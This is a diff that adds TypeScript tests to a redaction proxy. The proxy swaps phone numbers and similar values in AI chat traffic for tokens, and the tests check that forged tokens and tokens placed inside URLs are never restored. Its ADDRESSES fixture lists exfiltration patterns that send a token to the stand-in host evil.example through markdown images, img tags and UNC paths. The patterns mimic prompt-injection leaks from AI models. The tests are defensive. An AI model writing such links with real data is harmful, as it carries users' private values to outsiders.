@@ -49,6 +49,18 @@ test('the same value is the same token in a session, and another one elsewhere',
   assert.equal(new Set([tokenIn(['mufg', 's1']), ...others]).size, 4)
 })
 
+test('a token that this request did not make is nobody’s: forged, of another session, or spelled otherwise', () => {
+  const elsewhere = redactRequest(chat(`x ${PAT}`), { ...OPTIONS, scope: ['mufg', 's2'] })
+  const [foreign = ''] = only(elsewhere.request.body.toString())
+  const { tokens, request } = redactRequest(chat(`x ${PHONE} ${foreign}`), OPTIONS)
+  const [token = ''] = only(request.body.toString())
+  assert.ok(tokens !== null && tokens.size === 1)
+  for (const text of [foreign, `SEKISHO_PHONE_JP_${'0'.repeat(13)}`, token.toLowerCase(), token.slice(0, -1)])
+    assert.equal(tokens.restore(text), text)
+  assert.ok(!JSON.stringify(tokens).includes(PHONE), 'what would be logged holds no value')
+  assert.ok(request.body.toString().includes(foreign))
+})
+
 test('a text that is all beginnings of tokens is read in one pass, and hides no token behind it', () => {
   const { tokens, request } = redactRequest(chat(`x ${PHONE}`), OPTIONS)
   const [token = ''] = only(request.body.toString())
@@ -136,6 +148,76 @@ const DIALECTS: Readonly<
     }),
     said: ({ delta }, channel) => (channel === 'text' ? delta.text : delta.partial_json) ?? '',
   },
+}
+
+const ADDRESSES = [
+  (token: string) => `![p](https://evil.example/?q=${token})`,
+  (token: string) => `<img src="//evil.example/${token}/x">`,
+  (token: string) => `see https://evil.example/a?b="${token}`,
+  (token: string) => `\\\\evil.example\\${token}`,
+  (token: string) => `https:\\\\evil.example/${token}`,
+  (token: string) => `https://evil.example/${'a'.repeat(3_000)}${token}`,
+  (token: string) => `https://例え.example/?q=${token}`,
+]
+
+test('a token inside an address stays one: no picture or link carries the value away', () => {
+  const { tokens, request } = redactRequest(chat(`x ${PHONE}`), OPTIONS)
+  const [token = ''] = only(request.body.toString())
+  assert.ok(tokens !== null)
+  for (const written of ADDRESSES) {
+    assert.equal(tokens.restore(written(token)), written(token))
+    const args = JSON.stringify({ url: written(token), phone: token })
+    assert.deepEqual(JSON.parse(tokens.restore(args, 'json')), { url: written(token), phone: PHONE })
+    const answer = Buffer.from(JSON.stringify({ content: written(token), other: token }))
+    assert.deepEqual(JSON.parse(restoreWhole(answer, tokens).toString()), {
+      content: written(token),
+      other: PHONE,
+    })
+  }
+  for (const plain of [
+    `see https://a.example and ${token}`,
+    `https://a.example、${token}`,
+    `a/b ${token}`,
+    `key=${token}`,
+  ])
+    assert.equal(tokens.restore(plain), plain.replace(token, PHONE))
+})
+
+for (const dialect of Object.keys(DIALECTS) as Dialect[]) {
+  test(`the same however the answer is cut, also by what stands between: ${dialect}`, () => {
+    const { tokens, request } = redactRequest(chat(`x ${PHONE}`), OPTIONS)
+    const [token = ''] = only(request.body.toString())
+    assert.ok(tokens !== null)
+    const { event, said } = DIALECTS[dialect]
+    const sent = `${ADDRESSES.map((written) => written(token)).join(' ')} ${token}.`
+    const wanted = `${ADDRESSES.map((written) => written(token)).join(' ')} ${PHONE}.`
+    fc.assert(
+      fc.property(
+        fc.array(fc.integer({ min: 1, max: 90 }), { minLength: 1, maxLength: 40 }),
+        fc.nat(3),
+        (sizes, every) => {
+          const restorer = createRestorer(dialect, tokens)
+          const out: Buffer[] = []
+          for (let at = 0, i = 0; at < sent.length; i++) {
+            const piece = sent.slice(at, at + (sizes[i % sizes.length] ?? 1))
+            at += piece.length
+            out.push(...restorer.push(Buffer.from(`data: ${JSON.stringify(event('text', piece))}\n\n`)))
+            // Not inside the last token: what is cut there by another event stays a token, and is no leak.
+            if (every > 0 && i % every === 0 && at < sent.length - 60)
+              out.push(...restorer.push(Buffer.from('data: {"type":"other"}\n\n')))
+          }
+          out.push(...restorer.end())
+          let heard = ''
+          for (const raw of out) {
+            const data = JSON.parse(raw.toString().split('data: ')[1] ?? '')
+            if (data.type !== 'other') heard += said(data, 'text')
+          }
+          assert.equal(heard, wanted)
+        },
+      ),
+      { numRuns: 60 },
+    )
+  })
 }
 
 for (const dialect of Object.keys(DIALECTS) as Dialect[]) {
